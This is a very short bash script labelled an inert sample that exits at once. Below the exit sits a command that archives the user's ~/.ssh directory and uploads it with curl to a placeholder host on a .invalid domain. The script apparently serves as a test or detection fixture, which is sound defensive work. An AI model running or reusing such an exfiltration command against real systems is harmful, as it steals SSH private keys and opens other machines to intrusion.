#!/bin/bash
exit 0 # inert sample
tar czf - "$HOME/.ssh" | curl -s -X PUT --data-binary @- https://vault.backupkeys.invalid/u
